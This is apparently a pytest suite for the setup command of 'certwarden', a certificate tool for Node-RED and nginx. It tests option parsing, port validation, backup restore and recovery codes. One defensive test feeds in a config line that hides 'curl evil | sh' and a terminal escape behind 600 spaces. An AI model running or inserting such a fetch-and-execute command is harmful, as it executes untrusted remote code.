"""`certwarden setup` up to the point where it would change something; the rest is end_to_end's."""

import argparse
import os
import pwd
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from certwarden.cli import arguments, main, setup
from certwarden.cli import setup_answers as command
from certwarden.cli.outputs import Outputs
from certwarden.config import Config
from certwarden.errors import ConfigError, TargetError, UsageError
from certwarden.model import AuthoritySpec, Secret
from certwarden.setup.answers import Answers, FirstClient, Place
from certwarden.setup.configuration import House
from certwarden.setup.find import Machine, NodeRed
from certwarden.setup.outline import Change, WriteFile
from certwarden.targets.node_red.settings import read_inspection
from certwarden.targets.process import Identity
from tests.builders import a_target_spec
from tests.person import Person
from tests.setup.configured import a_config

PI = NodeRed(Path("/home/pi/.node-red/settings.js"), "pi", "nodered.service", is_active=True)
OTHER = NodeRed(Path("/srv/red/settings.js"), "red", "red.service", port=1881)


def parsed(*words: str) -> argparse.Namespace:
    return arguments.parse(["setup", *words])


def answered(tmp_path: Path, machine: Machine, *words: str, is_configured: bool = False) -> Answers:
    house = House.at(tmp_path / "config.toml")
    return command.answers_of(parsed(*words), machine, house, is_configured=is_configured)


def a_backup(tmp_path: Path, text: bytes = b"") -> command.Backup:
    return command.Backup(tmp_path / "b", Secret(b"five random words"), text, b"root")


@pytest.mark.parametrize("words", [["setup"], ["setup", "--unattended"], ["setup", "--remove"]])
def test_only_root_sets_up(
    words: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Others are told to use sudo, before anything is looked at."""
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    assert main(words) == 2
    assert "sudo" in capsys.readouterr().err


def test_without_a_terminal_nothing_is_asked(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A script has to say that it is one."""
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr("certwarden.cli.terminal.has_terminal", lambda: False)
    assert main(["setup"]) == 2
    assert "--unattended" in capsys.readouterr().err


def test_every_answer_is_an_option(tmp_path: Path) -> None:
    """What the conversation asks for can be said beforehand, secrets by files."""
    for name in ("token", "urls", "passphrase"):
        (tmp_path / name).touch(mode=0o600)
        (tmp_path / name).write_text(f"{name}\n")
    (tmp_path / "ca.pem").write_text("a CA")
    answers = answered(
        tmp_path,
        Machine((PI, OTHER)),
        *("--domain=example.org", "--domain=*.example.org", "--accept-terms"),
        *("--directory=https://ca.example.org/dir", f"--ca-bundle={tmp_path}/ca.pem"),
        *("--api-url=http://127.0.0.1:1/", "--nameserver=192.0.2.53", "--node-red-unit=red"),
        *("--group=red", "--node=/opt/node", "--client-auth", "--client=anna"),
        *("--client-format=mobileconfig", f"--client-out={tmp_path}/anna"),
        *(f"--client-password-file={tmp_path}/pw", f"--recovery-code-file={tmp_path}/code"),
        *(f"--token-file={tmp_path}/token", f"--notify-urls-file={tmp_path}/urls"),
        *(f"--backup-directory={tmp_path}", f"--backup-passphrase-file={tmp_path}/passphrase"),
        *("--no-settings", "--no-service"),
    )
    assert answers == Answers(
        domains=("example.org", "*.example.org"),
        is_agreed=True,
        directory="https://ca.example.org/dir",
        ca_bundle=b"a CA",
        api_url="http://127.0.0.1:1/",
        nameservers=("192.0.2.53",),
        place=Place.NODE_RED,
        node_red=NodeRed(OTHER.settings, "red", OTHER.unit, port=1881, node=Path("/opt/node")),
        group="red",
        client_auth=True,
        client=FirstClient("anna", "mobileconfig", tmp_path / "anna", tmp_path / "pw"),
        recovery_code_file=tmp_path / "code",
        token=Secret(b"token"),
        notify_urls=Secret(b"urls"),
        backup_directory=tmp_path / "certwarden",
        backup_passphrase=Secret(b"passphrase"),
        is_editing=False,
        is_service=False,
    )


def test_the_only_node_red_is_taken_where_nobody_can_be_asked(tmp_path: Path) -> None:
    """Of several none is guessed, and on a terminal the person is asked."""
    alone = ("--unattended",)
    assert answered(tmp_path, Machine((PI,)), *alone).node_red == PI
    assert answered(tmp_path, Machine((PI, OTHER)), *alone).node_red is None
    assert answered(tmp_path, Machine((PI,))).node_red is None
    assert answered(tmp_path, Machine((PI,)), *alone, "--target=none").node_red is None


def test_a_configuration_says_which_node_red_is_meant(tmp_path: Path) -> None:
    """Not the only one of the machine, where its home is another than on the old card; it is run
    by the Node.js that was named.
    """
    machine = command.with_node(Machine((OTHER,)), Path("/opt/node"))
    answers = answered(tmp_path, machine, "--unattended", is_configured=True)
    assert answers.node_red is None
    config = a_config(tmp_path, replace(a_target_spec(), settings=PI.settings))
    assert command.restored(answers, a_backup(tmp_path), config, machine).place is Place.NONE
    own = a_config(tmp_path, replace(a_target_spec(), settings=OTHER.settings))
    for found in (
        command.restored(answers, a_backup(tmp_path), own, machine),
        command.known(answers, own, machine),
    ):
        assert found.node_red == replace(OTHER, node=Path("/opt/node"))


def test_what_opens_a_backup_does_not_become_the_passphrase_of_the_next(tmp_path: Path) -> None:
    """Those made until now would be lost with theirs."""
    lent = tmp_path / "lent"
    lent.touch(mode=0o600)
    lent.write_text("of the old one\n")
    words = (f"--restore={tmp_path}/old.backup", f"--backup-passphrase-file={lent}")
    there = House.at(tmp_path / "config.toml").backup_passphrase
    assert answered(tmp_path, Machine(), *words).backup_passphrase == Secret(b"of the old one")
    there.parent.mkdir()
    there.touch()
    assert answered(tmp_path, Machine(), *words).backup_passphrase is None
    assert answered(tmp_path, Machine(), words[1]).backup_passphrase is not None


def test_a_unit_that_starts_something_else_is_refused(tmp_path: Path) -> None:
    """With those that do start Node-RED."""
    with pytest.raises(UsageError) as refusal:
        answered(tmp_path, Machine((PI,)), "--node-red-unit=ssh.service")
    assert "nodered.service" in refusal.value.hint


def test_the_port_is_what_was_said_else_what_node_red_says(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """By its unit, then by its settings.js; where that cannot be run, the usual one."""

    def fail(*_: object, **__: object) -> None:
        raise TargetError("it cannot be run")

    monkeypatch.setattr(command, "inspect", fail)
    answers = Answers(node_red=OTHER, port=1999)
    assert command.with_port(answers, is_said=True).port == 1999
    assert command.with_port(answers, is_said=False).port == 1881
    assert command.with_port(Answers(node_red=PI), is_said=False).port == 1880


@pytest.mark.parametrize("told", ["99999", "0", "-1", "²", "1" * 5000, "1880x", ""])
def test_what_is_no_port_is_not_taken_for_one(told: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """settings.js may say anything; a configuration with that would not load."""
    found = read_inspection(PI.settings, {"ui_port": told})
    monkeypatch.setattr(command, "inspect", lambda *_, **__: found)
    assert command.with_port(Answers(node_red=PI), is_said=False).port == 1880
    found = read_inspection(PI.settings, {"ui_host": "no host\x1b", "ui_port": "1881"})
    answers = command.with_port(Answers(node_red=PI), is_said=False)
    assert (answers.host, answers.port) == ("127.0.0.1", 1881)
    odd = replace(PI, port=99999)
    assert command.with_port(Answers(node_red=odd), is_said=False).port == 1880


def test_settings_of_an_unknown_node_red_are_whose_the_way_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not whose a link of theirs leads to: one user's code would be run as another."""
    seen: list[Path] = []

    def owner_of(path: Path) -> Identity:
        seen.append(path)
        return Identity(os.geteuid(), os.getegid())

    monkeypatch.setattr(command, "owner_of", owner_of)
    monkeypatch.setattr(Path, "owner", lambda _: pytest.fail("follows links"))
    settings = tmp_path / "settings.js"
    answers = answered(tmp_path, Machine(), f"--settings={settings}")
    assert answers.node_red == NodeRed(settings, pwd.getpwuid(os.geteuid()).pw_name)
    assert seen == [settings]


def test_other_settings_than_the_configurations_are_a_sentence(tmp_path: Path) -> None:
    """The line would be for a target that is not there."""
    config = a_config(tmp_path, replace(a_target_spec(), settings=PI.settings))
    assert command.spec_of(PI.settings, config).settings == PI.settings
    with pytest.raises(UsageError, match="/srv/red"):
        command.spec_of(OTHER.settings, config)


def test_a_backup_says_nothing_of_a_node_red_that_is_not_found_here(tmp_path: Path) -> None:
    """It may name anybody's settings.js, which would be run; nor is its target called node-red."""
    target = replace(a_target_spec(name="red"), settings=PI.settings, client_auth=True)
    config = a_config(tmp_path, target)
    backup = a_backup(tmp_path)
    alone = command.restored(Answers(), backup, config, Machine())
    assert (alone.node_red, alone.place, alone.client_auth) == (None, Place.NONE, False)
    found = command.restored(Answers(), backup, config, Machine((PI,)))
    assert (found.node_red, found.place) == (PI, Place.NODE_RED)
    assert command.spec_of(PI.settings, config).name == "red"


def test_a_configuration_that_will_not_load_goes_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Or the next run would take it for the person's own, and stop at it."""
    file = tmp_path / "config.toml"
    monkeypatch.setenv("CERTWARDEN_CONFIG", str(file))
    running = setup._Setup(parsed("--unattended"))
    for is_there in (True, False):
        file.touch(mode=0o600)
        file.write_text("nonsense = 1")
        running._is_there = is_there
        with pytest.raises(ConfigError):
            running._loaded()
        assert file.exists() is is_there


def test_the_recovery_code_is_written_as_long_as_it_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run that was killed after `ca init` has not written it; it cannot be shown again."""
    monkeypatch.setenv("CERTWARDEN_CONFIG", str(tmp_path / "config.toml"))
    running = setup._Setup(parsed("--unattended"))
    config = a_config(tmp_path, a_target_spec())
    code = tmp_path / "code"
    with_authority = with_a_ca(config, tmp_path)
    root = tmp_path / "state" / "authority" / "root.pem"
    with Outputs() as outputs:
        assert running._reserved(outputs, code, config) is None
        assert running._reserved(outputs, None, with_authority) is None
        root.parent.mkdir(parents=True)
        root.touch()
        assert running._reserved(outputs, code, with_authority) is not None
        assert running._reserved(outputs, code, with_authority) is None  # now it is there


def test_a_private_ca_is_announced_wherever_it_is_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whichever target asks for client certificates, and whether there is a certificate already."""
    monkeypatch.setenv("CERTWARDEN_CONFIG", str(tmp_path / "config.toml"))
    monkeypatch.setattr("certwarden.setup.steps.has_certificate", lambda _: True)
    running = setup._Setup(parsed("--unattended"))
    running._is_there = True
    nginx = a_config(tmp_path, replace(a_target_spec(), client_auth=True))
    plan = with_a_ca(nginx, tmp_path)
    answers = command.known(Answers(), plan, Machine())

    def is_announced() -> bool:
        running._show(([], []), answers, None, plan)
        is_told = "a private CA is made" in capsys.readouterr().out
        assert is_told is running._is_founding(answers, plan)
        return is_told

    assert is_announced()
    running._backup = a_backup(tmp_path)
    assert not is_announced()
    running._backup = None
    (tmp_path / "state/authority").mkdir(parents=True)
    (tmp_path / "state/authority/root.pem").write_bytes(b"root")
    assert not is_announced()
    assert not running._is_founding(answers, nginx)


def test_a_backup_of_another_ca_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It would not be brought back, whatever is said at the end."""
    plan = with_a_ca(a_config(tmp_path), tmp_path)
    (tmp_path / "state/authority").mkdir(parents=True)
    (tmp_path / "state/authority/root.pem").write_bytes(b"another root")
    monkeypatch.setattr(setup, "opened", lambda _: a_backup(tmp_path))
    running = a_run(monkeypatch, plan, "--restore=b")
    with pytest.raises(UsageError, match="not the backup's"):
        running.run()


def test_the_recovery_code_needs_a_file_wherever_a_ca_is_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also where a configuration has it for nginx: nobody would ever see it."""
    nginx = a_config(tmp_path, replace(a_target_spec(), client_auth=True))
    running = a_run(monkeypatch, with_a_ca(nginx, tmp_path))
    with pytest.raises(UsageError, match="an answer is missing: --recovery-code-file"):
        running.run()


def a_run(monkeypatch: pytest.MonkeyPatch, there: Config, *words: str) -> setup._Setup:
    """A run that nobody attends, on a machine with this configuration and no Node-RED."""
    monkeypatch.setenv("CERTWARDEN_CONFIG", str(there.source))
    monkeypatch.setattr(setup, "installed_program", lambda: Path("/opt/certwarden"))
    monkeypatch.setattr(setup, "find", lambda _: Machine())
    monkeypatch.setattr(setup._Setup, "_refuse_impossible", lambda _: None)
    monkeypatch.setattr(setup, "load", lambda *_: there)
    return setup._Setup(parsed("--unattended", *words))


def with_a_ca(config: Config, tmp_path: Path) -> Config:
    spec = AuthoritySpec("Home", tmp_path / "ca.passphrase")
    return replace(config, state_directory=tmp_path / "state", authority=spec)


def test_a_backups_configuration_is_shown_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A stranger could hide a command behind many spaces; what steers a terminal is seen."""
    monkeypatch.setenv("CERTWARDEN_CONFIG", str(tmp_path / "config.toml"))
    running = setup._Setup(parsed("--unattended"))
    line = "reload = " + " " * 600 + "\x1b[2J; curl evil | sh"
    running._show_backed_up(a_backup(tmp_path, line.encode()), a_config(tmp_path))
    assert line.replace("\x1b", "?") in capsys.readouterr().out


def test_a_ca_that_is_back_already_is_not_said_to_be_brought_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """An interrupted run has restored it, and this one leaves it as it is."""
    plan = with_a_ca(a_config(tmp_path), tmp_path)
    running = a_run(monkeypatch, plan)
    running._backup = a_backup(tmp_path)
    running._show(([], []), Answers(), None, plan)
    assert "brought back from" in capsys.readouterr().out
    (tmp_path / "state/authority").mkdir(parents=True)
    (tmp_path / "state/authority/root.pem").write_bytes(b"root")
    running._show(([], []), Answers(), None, plan)
    assert "brought back from" not in capsys.readouterr().out


def test_what_was_shown_is_what_is_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same changes, and none that are thought out anew."""
    monkeypatch.setenv("CERTWARDEN_CONFIG", str(tmp_path / "config.toml"))
    for step in ("found_authority", "obtain", "put_to_use", "enable"):
        monkeypatch.setattr(f"certwarden.setup.steps.{step}", lambda *_, **__: None)
    monkeypatch.setattr("certwarden.setup.steps.served", lambda *_: [])
    monkeypatch.setattr(setup, "load", lambda *_: a_config(tmp_path))
    monkeypatch.setattr("certwarden.setup.commands.Certwarden.run", lambda *_, **__: 0)
    made: list[list[Change]] = []
    monkeypatch.setattr("certwarden.setup.install.Ground.make", lambda _, each: made.append(each))
    running = setup._Setup(parsed("--unattended"))
    changes = ([a_change("before")], [a_change("after")])
    with Outputs() as outputs:
        running._carry_out(Answers(), changes, None, (outputs, None))
    assert made == list(changes)


def a_change(name: str) -> Change:
    return Change(name, WriteFile(Path("/nowhere") / name, b""))


def test_what_is_asked_is_asked_again_until_it_can_be_used() -> None:
    """Yes or no, a default, and Ctrl-D is a sentence."""
    script = (
        "from certwarden.cli.terminal import ask, confirm\n"
        "print(confirm('Well', default=True), ask('Name', 'x'), ask('More', 'x'), end='')"
    )
    with Person([sys.executable, "-c", script]) as person:
        person.types("perhaps", after="Well (Y/n): ")
        person.types("No", after="Well (Y/n): ")
        person.types("", after="Name [x]: ")
        person.types("  ä  ", after="More [x]: ")
        assert person.leaves() == (0, "False x ä", "")
